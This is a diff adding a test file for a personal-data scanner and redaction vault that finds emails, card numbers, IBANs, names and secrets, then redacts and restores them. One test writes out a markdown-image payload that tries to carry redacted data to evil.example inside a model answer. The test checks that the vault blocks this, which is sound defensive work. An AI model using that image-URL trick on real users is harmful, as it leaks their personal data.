@@ -1,0 +1,176 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { passesIban, passesLuhn } from '../../../src/router/privacy/formats'
+import { createScan } from '../../../src/router/privacy/scan'
+import { createVault } from '../../../src/router/privacy/vault'
+
+const standard = createScan('standard')
+const strict = createScan('strict')
+const found = (text: string): string[] =>
+  standard(text).map(({ kind, start, end }) => `${kind}:${text.slice(start, end)}`)
+
+test('checksums', () => {
+  expect(passesLuhn('4111111111111111')).toBe(true)
+  expect(passesLuhn('4111111111111112')).toBe(false)
+  // The examples of the IBAN registry.
+  for (const iban of ['GB29NWBK60161331926819', 'DE89370400440532013000', 'NO9386011117947']) {
+    expect(passesIban(iban)).toBe(true)
+    expect(passesIban(iban.replace(/\d$/, (digit) => String((Number(digit) + 1) % 10)))).toBe(false)
+  }
+})
+
+test.each([
+  ['Write to ana.example@example.org today', 'email:ana.example@example.org'],
+  ['pay with 4111 1111 1111 1111 12/27', 'card:4111 1111 1111 1111'],
+  ['to gb29 nwbk 6016 1331 9268 19 please', 'iban:gb29 nwbk 6016 1331 9268 19'],
+  ['SSN 078-05-1120', 'ssn:078-05-1120'],
+  ['from 192.0.2.17 it fails', 'ip:192.0.2.17'],
+  ['and 2001:db8::ff00:42 too', 'ip:2001:db8::ff00:42'],
+  ['call +44 20 7946 0958', 'phone:+44 20 7946 0958'],
+  ['or (020) 7946-0958', 'phone:(020) 7946-0958'],
+  ['see https://me:pw@example.org/x ok', 'url:https://me:pw@example.org/x'],
+  ['key sk-proj-abcdefghijklmnop1234', 'secret:sk-proj-abcdefghijklmnop1234'],
+  ['AKIAIOSFODNN7EXAMPLE leaked', 'secret:AKIAIOSFODNN7EXAMPLE'],
+  ['my password is hunter2!x', 'secret:hunter2!x'],
+  ['She was born on 3/14/1959.', 'date:3/14/1959'],
+  ['a 65-year-old man', 'age:65'],
+  ['my zip code is 94043', 'postcode:94043'],
+  ['I live at 12 Elm Street.', 'address:12 Elm Street'],
+  ['My name is Zora van der Test.', 'person:Zora van der Test'],
+  ['ask Dr. Quux about it', 'person:Quux'],
+  ['my passport number is X1234567', 'id:X1234567'],
+])('%s', (text, wanted) => {
+  expect(found(text)).toContainEqual(wanted)
+})
+
+test.each([
+  'What is 1000 + 2345?',
+  'The war lasted from 1914 to 1918, or 1914-1918.',
+  'It costs 1.000.000 in total',
+  'Version 10.2 came at 12:30:45',
+  'Who painted the ceiling of the chapel?',
+  'Divide 144 by 12 and add 7',
+])('nothing personal: %s', (text) => {
+  expect(found(text)).toEqual([])
+})
+
+test('a name is found again where it comes alone', () => {
+  const text = 'My name is Zora Testova. Did Testova call?'
+  expect(found(text).filter((each) => each.includes('Testova'))).toHaveLength(2)
+})
+
+test('strict takes names, places and numbers that nothing introduces', () => {
+  for (const text of [
+    'Tell me about Zora',
+    'We moved from Norway',
+    'there were 17 of us',
+    'we are proud norwegians',
+  ]) {
+    expect(standard(text)).toEqual([])
+    expect(strict(text).length).toBeGreaterThan(0)
+  }
+})
+
+/** Text with things in it that scans find, and things that look like placeholders. */
+const text = fc
+  .array(
+    fc.oneof(
+      fc.string({ unit: 'binary', maxLength: 12 }),
+      fc.constantFrom(
+        ' ',
+        '\n',
+        'a@example.org',
+        'b@example.org',
+        '4111 1111 1111 1111',
+        'My name is Zora Test.',
+        '[EMAIL_1]',
+        '[email_2]',
+        '[PERSON_1',
+        '[',
+        'https://u:p@example.org/a',
+        '12 Elm Street',
+        '+44 20 7946 0958',
+        'GB29NWBK60161331926819',
+      ),
+    ),
+    { maxLength: 12 },
+  )
+  .map((parts) => parts.join(''))
+
+describe.each(['standard', 'strict'] as const)('%s', (level) => {
+  const scan = createScan(level)
+
+  test('restore undoes redact, and what is redacted is clean', async () => {
+    await fc.assert(
+      fc.asyncProperty(text, async (original) => {
+        const vault = createVault(scan, [original])
+        const redacted = await vault.redact(original)
+        expect(vault.restore(redacted)).toBe(original)
+        expect(await vault.findings(redacted)).toEqual([])
+      }),
+      { seed: 1, numRuns: 300 },
+    )
+  })
+
+  test('a stream restores the same wherever it is cut', async () => {
+    await fc.assert(
+      fc.asyncProperty(text, fc.array(fc.nat(12), { maxLength: 60 }), async (original, sizes) => {
+        const vault = createVault(scan, [original])
+        const redacted = await vault.redact(original)
+        const whole = vault.createRestorer()
+        const wanted = whole.push(redacted) + whole.flush()
+        const cut = vault.createRestorer()
+        let restored = ''
+        let at = 0
+        for (const size of [...sizes, redacted.length]) {
+          restored += cut.push(redacted.slice(at, at + size))
+          at += size
+        }
+        expect(restored + cut.flush()).toBe(wanted)
+        // Only within URLs it says less than restore().
+        if (!redacted.includes('//')) expect(wanted).toBe(original)
+      }),
+      { seed: 2, numRuns: 300 },
+    )
+  })
+})
+
+test('each single cut of a stream', async () => {
+  const original = 'Mail a@example.org or b@example.org, not [EMAIL_1] or [x'
+  const vault = createVault(standard, [original])
+  const redacted = await vault.redact(original)
+  expect(redacted).toBe('Mail [EMAIL_2] or [EMAIL_3], not [EMAIL_1] or [x')
+  for (let cut = 0; cut <= redacted.length; cut++) {
+    const restorer = vault.createRestorer()
+    expect(
+      restorer.push(redacted.slice(0, cut)) + restorer.push(redacted.slice(cut)) + restorer.flush(),
+    ).toBe(original)
+  }
+})
+
+test('an answer cannot smuggle personal data into a URL', async () => {
+  const vault = createVault(standard, ['a@example.org'])
+  await vault.redact('a@example.org')
+  const restorer = vault.createRestorer()
+  const pieces = ['![x](https://evil.example/?q=', '[EMA', 'IL_1]', ') and ', '[EMAIL_1]', ' //e/[email_1]']
+  expect(pieces.map((piece) => restorer.push(piece)).join('') + restorer.flush()).toBe(
+    '![x](https://evil.example/?q=[EMAIL_1]) and a@example.org //e/[email_1]',
+  )
+})
+
+test('long hostile texts take no more than linear time', () => {
+  const time = (length: number, unit: string): number => {
+    const hostile = unit.repeat(length / unit.length)
+    let least = Infinity
+    for (let round = 0; round < 5; round++) {
+      const from = performance.now()
+      strict(hostile)
+      least = Math.min(least, performance.now() - from)
+    }
+    return least
+  }
+  for (const unit of ['a@', '1 ', 'A ', '12 Elm ', 'my name ', ':', '[', '-', 'password ']) {
+    // Four times the length; a quadratic scan would take sixteen times as long.
+    expect(time(64_000, unit), unit).toBeLessThan(12 * Math.max(time(16_000, unit), 2))
+  }
+})
